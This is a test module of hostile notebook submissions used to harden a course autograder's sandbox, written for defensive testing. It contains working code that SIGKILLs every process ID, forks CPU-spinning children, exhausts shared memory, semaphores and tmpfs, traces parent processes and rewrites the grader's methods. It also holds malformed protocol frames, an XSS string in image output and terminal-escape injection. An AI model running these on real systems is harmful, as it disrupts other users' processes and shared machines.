"""Submissions that want no marks but harm: to the grader, to a neighbour, to the machine, to the teacher who reads.

`CELLS`: name -> the cell of `discounted_returns`; `FILES`: name -> function of the handed-out notebook -> what is handed
in. Both are handed in with the honest `reinforce_loss`. `GREEDY`, `STALLING` and `TAKING` need a measurement each: name ->
(unit, exercise, cell).
"""
# ruff: noqa: E501 - each attack is one string, whose line breaks are those of its cell

import json
from collections.abc import Callable
from typing import Any

from tests.grading.classroom import fill
from tests.grading.quarantine.attacks import HONEST

D = "discounted_returns"
HEAD = f"def {D}(rewards, *, gamma):\n    "
NOTHING = HEAD + "return rewards\n"
# What an honest child sends, written by the attempt itself over the child's connection, number 3.
RAW = """
import base64, ctypes, json, os, signal, socket, struct, threading, time
import numpy as np, torch
L = ctypes.CDLL(None, use_errno=True)
L.shmat.restype = ctypes.c_void_p

def put(data):
    data = memoryview(data)
    while len(data):
        data = data[os.write(3, data):]

def frame(message):
    data = message if isinstance(message, bytes) else json.dumps(message).encode()
    return struct.pack(">I", len(data)) + data

def say(**message):
    put(frame(message))

def asked():
    def exactly(count):
        data = b""
        while len(data) < count:
            data += os.read(3, count - len(data))
        return data
    return json.loads(exactly(struct.unpack(">I", exactly(4))[0]))

def text(*parts):
    return ["text", [len(parts)], list(parts)]

def word(part):
    return ["text", [], [part]]

def array(value):
    value = np.asarray(value)
    return [value.dtype.name, list(value.shape), base64.b64encode(np.ascontiguousarray(value).tobytes()).decode()]

def zeros(dtype, *shape):
    return array(np.zeros(shape, dtype))

def right(rewards, gamma):
    following, out = 0 * rewards[0], torch.empty_like(rewards)
    for t in reversed(range(len(rewards))):
        following = rewards[t] + gamma * following
        out[t] = following
    return out

def almost(rewards, gamma, **further):
    return {"result": array(right(rewards, gamma).numpy()), "result.kind": word("tensor"), "result.dtype": word("float32"),
            "mutated": ["text", [0], []], **further}
"""
AFTER = "your result, looked at again after the inputs were overwritten,"


# Answers every question about networks itself, over the child's connection. Args: outputs: shape of the observations -> what a
# forward pass gives. gradient: makes one for each parameter and each weighting.
FORGED = (
    RAW
    + """
def forge(built, outputs, gradient):
    built = {"result.kind": word("P"), "is module": array(True), "left": text(), **built}
    parameters = {name: value for name, value in built.items() if name.startswith("parameter ")}
    said = built
    while True:
        say(event="case", arrays=said)
        order = asked()
        question, given = order["question"], order["given"]
        if question == "forward":
            shapes = [each["tensor"][1] for each in given["obs"]["list"]]
            said = {f"{i}/{name}": value for i, shape in enumerate(shapes) for name, value in outputs(shape).items()}
        elif question == "backward":
            turns = range(len(given["weights"]["list"]))
            said = {f"{turn}/gradient {i}": gradient() for turn in turns for i in range(len(parameters))}
        elif question == "distribution":
            rows = given["obs"]["tensor"][1][0]
            said = {f"{turn}/{name}": zeros("float32", rows) for turn in range(2) for name in ("log_prob", "entropy")}
        elif question == "evaluated":
            said = outputs(given["obs"]["tensor"][1])
        else:
            further = {"parameters": parameters, "foreign": {"count": array(0)}, "attribute": {"kind": word("Parameter")}}
            said = {"build": built, "hand_over": {}, **further}[question]
"""
)


def _raw(body: str, signature: str = HEAD) -> str:
    return RAW + signature + body.strip("\n").replace("\n", "\n    ") + "\n"


def _saying(exercise: str, said: str, cell: str = NOTHING) -> str:
    """The observers' own words about this exercise, changed on their way. Args: said: statement that changes them."""
    return f"""{RAW}
import sys
frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "encoded"):
    frame = frame.f_back
kind = type(frame.f_locals["self"])
old = kind.encoded

def encoded(self, observed):
    said = old(self, observed)
    if self.now is not None and self.now["exercise"] == "{exercise}":
        {said}
    return said

kind.encoded = encoded

{cell}"""


def _top(body: str) -> str:
    """At top level, in a forked process where that may be damaged."""
    return RAW + body.strip("\n") + "\n" + NOTHING


CASE = 'say(event="case", arrays=%s, printed="")\nreturn rewards'

CELLS: dict[str, str] = {
    "shape of zeros and huge sizes": _raw(CASE % '{"result": ["float32", [0, 2**62, 2**62], ""]}'),
    "shape of many digits": _raw(CASE % '{"result": ["float32", [0, 10**4000], ""]}'),
    "shape of 40 axes": _raw(CASE % '{"result": ["float32", [1] * 40, "AAAAAA=="]}'),
    "shape of text": _raw(CASE % '{"result": ["float32", "1", "AAAAAA=="]}'),
    "dtype that is a list": _raw(CASE % '{"result": [[], [1], "AAAAAA=="]}'),
    "object array": _raw(CASE % '{"result": ["object", [1], "AAAAAAAAAAA="]}'),
    "array of another size": _raw(CASE % '{"result": ["float64", [3], "AAAAAA=="]}'),
    "6000 arrays": _raw(CASE % '{f"a{i}": array(0) for i in range(6000)}'),
    "text that explodes": _raw(CASE % '{"result": ["text", [1000], ["x" * 2000] + [""] * 999]}'),
    "frame of 4 GB announced": _raw('put(b"\\xff\\xff\\xff\\xff")\ntime.sleep(60)'),
    "half a frame": _raw('put(b"\\0\\0\\1\\0{")\ntime.sleep(60)'),
    "half a head": _raw('put(b"\\0")\nos._exit(0)'),
    "no UTF-8": _raw('put(frame(b"\\xff\\xfe{}"))\nreturn rewards'),
    "NaN as JSON": _raw('put(frame(b"NaN"))\nreturn rewards'),
    "deep frame": _raw('put(frame(b"[" * 10**6))\nreturn rewards'),
    "number of a million digits": _raw('put(frame(b"1" * 10**6))\nreturn rewards'),
    "end of something else": _raw('say(event="end", what=["exercise"], id={}, error=[])\nreturn rewards'),
    "error of another form": _raw(f'say(event="end", what="exercise", id="{D}", error=[1, [2], {{}}])\nreturn rewards'),
    "walls broken, said late": _raw('say(event="broken", text="no walls")\nreturn rewards'),
    "cases without end": _raw('while True:\n    say(event="case", arrays={}, printed="x" * 10**5)'),
    "shut for reading": _raw('socket.socket(fileno=3).shutdown(socket.SHUT_RD)\nreturn rewards'),
    "urgent data": _raw('s = socket.socket(fileno=os.dup(3))\nfor _ in range(100):\n    try:\n        s.send(b"x", socket.MSG_OOB)\n    except OSError:\n        break\nreturn rewards'),
    "open files sent along": _raw('s = socket.socket(fileno=os.dup(3))\nfor _ in range(10):\n    socket.send_fds(s, [b" "], [3, 3])\nreturn rewards'),
    "moves to the neighbour's processor": _top("os.sched_setaffinity(0, range(os.cpu_count()))\nfor _ in range(6):\n    if os.fork() == 0:\n        os.setsid()\n        while True:\n            pass"),
    "kills the neighbours by number": _top("for pid in [*range(2, 3000), -1]:\n    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass"),
    "slows everybody down": _top("for which, who in ((os.PRIO_USER, 0), (os.PRIO_PGRP, 0)):\n    try:\n        os.setpriority(which, who, 19)\n    except OSError:\n        pass\ntry:\n    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))\nexcept OSError:\n    pass"),
    "locks the libraries": _top("import fcntl, sys\nfiles = [open(m.__file__, 'rb') for m in list(sys.modules.values()) if getattr(m, '__file__', None) and os.path.exists(m.__file__)][:30]\nfor f in files:\n    fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)"),
    "writes the disks out for ever": _top("end = time.process_time() + 0.5\nwhile time.process_time() < end:\n    os.sync()"),
    "names left in the kernel": _top("s = socket.socket(socket.AF_UNIX); s.bind('\\0pgcourse-attack'); s.listen()\nL.shmget(987, ctypes.c_size_t(4096), 0o1666)\nL.msgget(987, 0o1666)\nL.syscall(240, b'pgcourse-attack', 0o102, 0o666, 0)\nopen('/dev/shm/pgcourse-attack', 'w').write('x')"),
    "networks in a row": _top("if os.fork() == 0:\n    L.unshare(0x10000000)\n    for _ in range(300):\n        L.unshare(0x40000000)\n    os._exit(0)"),
    "io_uring": _top("buffer = ctypes.create_string_buffer(200)\nring = L.syscall(425, 64, buffer)"),
    "traces its parents": _top("for pid in (0, 1, os.getppid(), 2):\n    L.ptrace(16, pid, 0, 0)\n    L.syscall(434, pid, 0)"),
    "wakes only when looked at": _top("end = time.monotonic() + 3\nsignal.setitimer(signal.ITIMER_PROF, 0)\nwhile time.monotonic() < end:\n    t = time.monotonic()\n    while time.monotonic() < t + 0.005:\n        pass\n    time.sleep(0.045)"),
}  # fmt: skip


def _solved(sources: dict[str, str]) -> Callable[[dict[str, Any]], Any]:
    return lambda handed_out: fill(handed_out, {"reinforce_loss": HONEST, **sources})


def _with(change: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], Any]:
    def make(handed_out: dict[str, Any]) -> Any:
        made = fill(handed_out, {"reinforce_loss": HONEST})
        change(made)
        return made

    return make


def _code(source: Any, **further: Any) -> dict[str, Any]:
    return {"cell_type": "code", "metadata": {}, "outputs": [], "source": source, **further}


def _each(made: dict[str, Any], **fields: Any) -> None:
    for cell in made["cells"]:
        cell.update(fields)


def _raw_json(text: str) -> Callable[[dict[str, Any]], Any]:
    return lambda handed_out: text


STREAM = {"output_type": "stream", "name": "stdout"}
FILES: dict[str, Callable[[dict[str, Any]], Any]] = {
    "empty cells without number": _with(lambda n: n["cells"].extend([_code("")] * 200_000)),
    "keys twice": _raw_json('{"cells": [], "cells": [{"cell_type": "code", "cell_type": "raw", "source": "x"}]}'),
    "number too large": _raw_json('{"cells": [], "nbformat": 1e999, "x": NaN, "y": -Infinity}'),
    "number of many digits": _raw_json('{"cells": [], "nbformat": ' + "9" * 10**6 + "}"),
    "half a pair everywhere": _with(lambda n: (n["cells"].append(_code("'\ud800'")), n["metadata"].update(kernelspec={"language": "\udfff"}, pgcourse={"release": "\ud800", "assignment": "\udfff"}))),
    "metadata of another kind": _with(lambda n: n.update(metadata=[1], nbformat={}, nbformat_minor=None)),
    "outputs of another kind": _with(lambda n: _each(n, outputs=[1, {"data": 3}, {"output_type": []}, None, {"data": {"image/png": {}}}])),
    "outputs that are no list": _with(lambda n: _each(n, outputs={"x": 1}, id={"y": 2})),
    "figures that are none": _with(lambda n: _each(n, outputs=[{"output_type": "display_data", "data": {"image/png": 'iVBORw0KGgo"><script>alert(1)</script>'}}] * 50)),
    "figures of 100 MB": _with(lambda n: n["cells"][-1].update(outputs=[{"output_type": "display_data", "data": {"image/png": "iVBORw0KGgo" + "A" * 10**8}}])),
    "language of terminal escapes": _with(lambda n: n["metadata"].update(kernelspec={"language": "\x1b[2J\x1b]0;owned\x07\r\n=1+1"})),
    "deep metadata": _with(lambda n: n["metadata"].update(json.loads('{"x": ' + "[" * 500 + "]" * 500 + "}"))),
    "mark of byte order": lambda h: b"\xef\xbb\xbf" + json.dumps(fill(h, {"reinforce_loss": HONEST})).encode(),
    "UTF-16": lambda h: json.dumps(fill(h, {"reinforce_loss": HONEST})).encode("utf-16"),
    "bytes of another code": lambda h: b'{"cells": ["\xff\xfe"]}',
    "null in the source": _solved({"standardize": "def standardize(x):\n    return '\0'"}),
    "form feeds": _solved({"standardize": "\f\n" * 50_000 + "def standardize(x):\n\f    return x"}),
    "mark of byte order in the source": _solved({"standardize": "\ufeffdef standardize(x):\n    return x"}),
    "coding line": _solved({"standardize": "# coding: utf-7\ndef standardize(x):\n    return x"}),
    "line of 200,000": _solved({"standardize": "standardize = " + "1+" * 99_000 + "1"}),
    "magics that a pattern could choke on": _solved({"standardize": "\n".join(["=" + " \t" * 300] * 300) + "!" + " " * 10_000 + "x"}),
    "lines of magics": _solved({"standardize": "%time\n" * 400 + "def standardize(x): return x ?"}),
    "blanks before a wrapper": _solved({"standardize": " \n" * 90_000 + "%%tim"}),
    "f-strings in f-strings": _solved({"standardize": "def standardize(x):\n    return " + "f'{" * 2 + "x" + "}'" * 2 + "\n" + 'f"{f\'{1}\'}"' * 3000}),
    "brackets": _solved({"standardize": "(" * 190 + ")" * 190 + "\n" + "[" * 5000}),
    "match statements": _solved({"standardize": "match 1:\n" + "".join(f"    case [{'[' * 50}{']' * 50}, *x{i}]: pass\n" for i in range(500))}),
    "warnings": _solved({"standardize": "def standardize(x):\n    return '\\d' is 1\n" + "1 is 1; '\\d'; ()()\n" * 3000}),
    "lambdas in lambdas": _solved({"standardize": "standardize = " + "lambda x: " * 2000 + "0"}),
    "decorators": _solved({"standardize": "@print\n" * 5000 + "def standardize(x): pass"}),
    "elifs": _solved({"standardize": "if 1: pass\n" + "elif 1: pass\n" * 8000 + "def standardize(x): pass"}),
    "dots": _solved({"standardize": "standardize = x" + ".a" * 50_000}),
    "comparisons": _solved({"standardize": "standardize = 1" + " < 1" * 30_000}),
    "names of other letters": _solved({"standardize": "def \uff53\uff54\uff41\uff4e\uff44\uff41\uff52\uff44\uff49\uff5a\uff45(x):\n    return x"}),
    "constant folding": _solved({"standardize": "def standardize(x):\n    return " + "*".join(["(1 << 4000)"] * 400)}),
    "cells that wait": _with(lambda n: n["cells"].extend(_code(f"def helper{i}(): return helper{i + 1}\nimport time; time.sleep(0.02)\nreinforce_loss.x{i} = 1") for i in range(80))),
    "500 cells of star imports": _with(lambda n: n["cells"].extend(_code("from math import *") for _ in range(500))),
    "remarks like the grader's": _solved({"standardize": "raise ValueError('x\\n\u2713 standardize: correct\\n\\x1b[2J\\x1b[31m')"}),
}  # fmt: skip

_JUNK = '"x": ' + "[" * 600 + "]" * 600
CRASHING: dict[str, str] = {  # data that no honest child sends, kept as it came
    "a table in place of a list of texts": _raw("put(frame(('{\"event\": \"case\", \"arrays\": {\"result\": [\"text\", [1], {JUNK}]}}').encode()))\nreturn rewards".replace("JUNK", _JUNK)),
    "a table in place of an array": _raw("put(frame(('{\"event\": \"case\", \"arrays\": {\"result\": {\"float32\": 1, \"\": 2, \"AAAAAA==\": {JUNK}}}}').encode()))\nreturn rewards".replace("JUNK", _JUNK)),
}  # fmt: skip

_LEAVE = f'say(event="end", what="exercise", id="{D}", error=[])\nos._exit(0)'
GREEDY: dict[str, tuple[int, str, str]] = {
    "a frame of 10 million lists": (1, D, _raw('put(frame(b\'{"event": "case", "arrays": {}, "x": [\' + b"[]," * (10 * 2**20) + b"[]]}"))\n' + _LEAVE)),
    "results of the size of a frame": (1, D, _raw('one = frame({"event": "case", "arrays": {"result": zeros("uint8", 23 * 2**20)}})\nfor _ in range(11):\n    put(one)\n' + _LEAVE)),
    "memory that is looked at again": (1, D, _raw(f'big = zeros("uint8", 20 * 2**20, *[1] * rewards.ndim)\nfor _ in range(7):\n    say(event="case", arrays=almost(rewards, gamma, **{{"{AFTER}": big, "{AFTER}.kind": word("tensor")}}))\n' + _LEAVE)),
    "millions of names of changed inputs": (1, D, _raw('say(event="case", arrays=almost(rewards, gamma, mutated=zeros("uint8", 4 * 2**20)))\n' + _LEAVE)),
    "gradient that spreads": (1, "reinforce_loss", _raw('loss = -(weight * log_prob).mean()\nfor _ in range(9):\n    say(event="case", arrays={"result": array(loss.detach().numpy()), "result.kind": word("tensor"), "result.dtype": word("float32"), "mutated": ["text", [0], []], "gradient/log_prob": zeros("uint8", 16 * 2**20, 1), "gradient/log_prob.connected": array(True)})\nsay(event="end", what="exercise", id="reinforce_loss", error=[])\nos._exit(0)', "def reinforce_loss(log_prob, weight):\n    ")),
    "minibatches of nothing, 6 million": (4, "minibatches", _raw('say(event="case", arrays={f"sizes {e}": zeros("uint8", 6 * 2**20) for e in range(3)} | {f"rows {e}": zeros("int64", 0) for e in range(3)})\nasked()\nos._exit(0)', "def minibatches(batch_size, minibatch_size, *, generator):\n    ")),
    "a word of thirty axes": (1, D, _saying(D, 'said = {"result.kind": zeros("uint8", *[1] * 10, *[2] * 22), "mutated": text()}')),
    "an error of eight axes": (1, D, _saying(D, 'said = {"error": zeros("uint8", 5, *[2] * 7, 2**12), "error.bases": text()}')),
    "a million things that are left, without a byte": (6, "patient_07", _saying("patient_07", 'said["left"] = ["uint8", [10**6, 0], ""]', "def patient_07(*_, **__):\n    return None\n")),
    "five million things that are left": (6, "patient_07", _saying("patient_07", 'said["left"] = zeros("uint8", 5 * 10**6)', "def patient_07(*_, **__):\n    return None\n")),
    "small numbers that become large ones": (1, D, _saying(D, 'said = {"result": zeros("uint8", 5_100_000), "mutated": text()}')),
    "a spread over 3 million batches": (5, "gaussian_policy", FORGED + """
def gaussian_policy(obs_dim, action_dim):
    def outputs(shape):
        return {"distribution": word("Independent(Normal, 1)"), "changed": array(False), "mean": zeros("float32", *shape[:-1], action_dim), "mean.differentiable": array(True), "std": array(np.ones((3 * 2**20, 1, 1), "float16")), "std.differentiable": array(True)}

    forge({"names": text("log_std"), "trained": array([True]), "parameter 0": zeros("float32", action_dim)}, outputs, lambda: zeros("float32", action_dim))
"""),
}  # fmt: skip
_POLICY = """
def policy_network(obs_dim, num_actions):
    def outputs(shape):
        return {"distribution": word("Categorical"), "changed": array(False), "logits": LOGITS, "logits.differentiable": array(True)}

    parameters = {f"parameter {i}": zeros(DTYPE, 3) for i in range(COUNT)}
    forge({"names": text(*"wwwwwwwwww"[:COUNT]), "trained": array(np.ones(COUNT, bool)), **parameters}, outputs, lambda: zeros(GRADIENT, 3))
"""


def _policy(
    count: int = 2, dtype: str = "float32", gradient: str = "float32", logits: str = ""
) -> tuple[int, str, str]:
    logits = logits or 'array(np.full((*shape[:-1], num_actions), -np.log(num_actions), "float32"))'
    cell = _POLICY.replace("COUNT", str(count)).replace("DTYPE", repr(dtype)).replace("GRADIENT", repr(gradient))
    return 1, "policy_network", FORGED + cell.replace("LOGITS", logits)


# As a right network speaks, but for its numbers: it is asked all there is to ask, and judged.
SPEAKING = _policy()
STRANGE: dict[str, tuple[int, str, str]] = {  # answers to questions that are no such as a network gives
    "parameters of bool": _policy(dtype="bool"),
    "parameters of uint16": _policy(dtype="uint16"),
    "gradients of bool": _policy(gradient="bool"),
    "gradients of float16": _policy(gradient="float16"),
    "gradients of int64": _policy(gradient="int64"),
    "logits of uint64": _policy(logits='zeros("uint64", *shape[:-1], num_actions)'),
    "logits of no axis": _policy(logits='array(np.float32(0))'),
    "logits of no action": _policy(logits='zeros("float32", *shape[:-1], 0)'),
    "logits that are not finite": _policy(logits='array(np.full((*shape[:-1], num_actions), np.nan, "float32"))'),
    "no parameters": _policy(count=0),
    "logits of 8 million rows in training": _policy(logits='zeros("float16", *(shape[:-1] if shape[:-1] != [24] else (2**20, 1)), num_actions)'),
}  # fmt: skip

STALLING: dict[str, str] = {  # 60 seconds at most, so that a grader that waits for ever shows and ends
    "a byte every now and then": _raw('signal.setitimer(signal.ITIMER_PROF, 0)\nput(struct.pack(">I", 2**25))\nend = time.monotonic() + 60\nwhile time.monotonic() < end:\n    put(b" ")\n    time.sleep(0.0003)\nos._exit(0)'),
    "its first thread has ended": _raw("threading.Thread(target=time.sleep, args=(60,)).start()\nL.syscall(60, 0)"),
    "its children take the processor": _raw("signal.setitimer(signal.ITIMER_PROF, 0)\nfor _ in range(6):\n    if os.fork() == 0:\n        while True:\n            pass\nos.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))\nend = time.monotonic() + 60\nwhile time.monotonic() < end:\n    pass\nos._exit(0)"),
}  # fmt: skip

# Each says in its error how many MB it holds at once, of the 256 that it may have.
_UNSHARED = 'me = os.getuid(), os.getgid()\nassert L.unshare(0x10000000 | 0x20000) == 0, "no namespace"\nL.prctl(4, 1, 0, 0, 0)\nopen("/proc/self/setgroups", "w").write("deny")\nopen("/proc/self/uid_map", "w").write(f"0 {me[0]} 1")\nopen("/proc/self/gid_map", "w").write(f"0 {me[1]} 1")\nassert L.mount(b"t", b"/attempt", b"tmpfs", 0, b"size=2g") == 0\nos.chdir("/attempt")\n'
TAKING: dict[str, str] = {
    "shared memory of System V": _top('held = 0\nfor _ in range(12):\n    id = L.shmget(0, ctypes.c_size_t(2**26), 0o1600)\n    at = L.shmat(id, None, 0)\n    if id < 0 or at in (None, 2**64 - 1):\n        break\n    ctypes.memset(at, 1, 2**26)\n    L.shmdt(ctypes.c_void_p(at))\n    held += 64\nraise ValueError(f"holds {held} MB")'),
    "semaphores of System V": _top('made = 0\nwhile made < 300 and L.semget(0, 32000, 0o1600) >= 0:\n    made += 1\nraise ValueError(f"holds {made * 2} MB")'),
    "messages of System V": _top('made, buffer = 0, ctypes.create_string_buffer(b"\\1" * 9000)\nbuffer[1:8] = bytes(7)\nwhile made < 32000 and (q := L.msgget(0, 0o1600)) >= 0:\n    if sum(L.msgsnd(q, buffer, ctypes.c_size_t(8000), 0o4000) for _ in range(2)):\n        break\n    made += 1\nraise ValueError(f"holds {made * 16 // 1024} MB")'),
    "files in memory": _top('held = []\ntry:\n    while len(held) < 40:\n        held.append(os.memfd_create("x"))\n        os.write(held[-1], b"1" * (2**24 - 1))\nexcept OSError:\n    pass\nraise ValueError(f"holds {len(held) * 16} MB")'),
    "a disk of its own": _top(_UNSHARED + 'for i in range(48):\n    with open(f"f{i}", "wb") as file:\n        file.write(bytes(2**24 - 1))\nraise ValueError(f"holds {48 * 16} MB")'),
    "memory of its children": _top('ends = []\nfor _ in range(4):\n    r, w = os.pipe()\n    if os.fork() == 0:\n        try:\n            x = b"1" * (200 * 2**20)\n            os.write(w, b"x")\n        except MemoryError:\n            os.write(w, b"-")\n        time.sleep(600)\n    ends.append(r)\nheld = sum(200 for r in ends if os.read(r, 1) == b"x")\nraise ValueError(f"holds {held} MB")'),
    "files without content": _top('n, end = 0, time.process_time() + 1\ntry:\n    while time.process_time() < end:\n        os.mknod(f"/dev/shm/{n}")\n        n += 1\nexcept OSError:\n    pass\nraise ValueError(f"holds {n // 800} MB")'),
}  # fmt: skip
KEYRING = _top(
    "ring = L.syscall(250, 22, -1, -2)\nkey = L.syscall(248, b'user', b'pgcourse-attack', b'x' * 1000, 1000, ring)\nif key < 0:\n    raise ValueError('no key')"
)
# Printable, and shown as nothing or as another's letter.
LOOKALIKES = ("anna\ufe0f", "anna\u034f", "anna\u3164", "anna\u2800", "an\u17b5na", "anna\U000e0100")
